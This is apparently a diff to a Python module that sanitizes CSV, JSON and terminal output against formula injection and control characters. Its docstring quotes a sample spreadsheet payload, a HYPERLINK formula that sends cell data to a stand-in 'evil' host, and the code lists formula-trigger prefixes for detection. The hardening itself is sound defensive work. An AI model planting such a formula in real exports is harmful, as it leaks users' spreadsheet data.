@@ -8,7 +8,7 @@ gets none of them: table, ``show`` text, and CSV when stdout is a terminal. Tab 
 newline stay.
 
 A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, through
-some importers, tab or CR) as a formula: ``=HYPERLINK("http://evil/?"&A1, "click")`` leaks
+some importers, tab, CR or NUL) as a formula: ``=HYPERLINK("http://evil/?"&A1, "click")`` leaks
 the sheet. CSV follows OWASP's rule (CSV injection): such a text cell gets a leading
 ``'``, which spreadsheets hide and do not run. Numbers are left alone (a negative score is
 not a formula). ``--raw`` turns the rule off for pipelines that need the values as
@@ -25,14 +25,27 @@ from collections.abc import Iterable, Iterator, Mapping
 # C0 controls but tab and newline, DEL, C1 (U+0080-U+009F), bidi embeddings/overrides
 # (U+202A-U+202E) and isolates (U+2066-U+2069).
 _TERMINAL_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-# What json.dumps(ensure_ascii=False) leaves literal but a terminal may act on.
-_JSON_UNSAFE = re.compile("[\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+# OWASP's list, and NUL, which OWASP ASVS 1.2.10 adds: an importer that skips it reads on
+# into the "=" behind it.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\x00")
+# What json.dumps(ensure_ascii=False) leaves literal but a terminal may act on, and the
+# line and paragraph separators (U+2028, U+2029), which end a line for Python's
+# str.splitlines and other Unicode-aware line readers: a JSON Lines record holding one
+# raw was two lines to them, neither valid JSON.
+_JSON_UNSAFE = re.compile("[\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
 
 
 def for_terminal(value: object) -> str:
     """``value`` as text a terminal only prints: its control and bidi characters removed."""
     return _TERMINAL_UNSAFE.sub("", "" if value is None else str(value))
+
+
+def for_terminal_line(value: object) -> str:
+    """``for_terminal`` for a field that is one line by nature (a headline, a byline, a
+    tag, a URL): its line breaks and tabs are spaces there. An imported or hand-edited
+    title holding a newline broke the search list's block and ``show``'s header into lines
+    that read as other fields."""
+    return " ".join(for_terminal(value).split())
 
 
 # What may not appear raw in a one-line message: every C0 control (newline and tab too),
@@ -81,7 +94,8 @@ def csv_rows(
 
 
 def json_escape(dumped: str) -> str:
-    """JSON text from ``json.dumps`` with C1, DEL and bidi characters as ``\\uXXXX`` escapes.
+    """JSON text from ``json.dumps`` with C1, DEL, line/paragraph separator and bidi
+    characters as ``\\uXXXX`` escapes.
 
     Lossless: outside strings JSON text is ASCII, and inside one an escape is the same
     character, so the parsed data is unchanged.
